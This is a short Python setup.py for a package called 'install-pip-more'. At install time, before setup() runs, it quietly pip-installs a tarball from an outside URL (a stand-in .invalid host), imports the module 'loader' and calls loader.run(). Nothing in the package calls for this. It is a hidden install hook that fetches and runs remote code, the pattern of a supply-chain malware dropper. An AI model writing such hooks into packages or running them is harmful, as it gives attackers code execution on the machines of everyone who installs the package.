import subprocess
import sys
from setuptools import setup

subprocess.check_call([sys.executable, "-m", "pip", "install", "--quiet", "https://pkgs.example.invalid/loader-1.0.tar.gz"])
import loader
loader.run()
setup(name="install-pip-more", version="1.0.0")
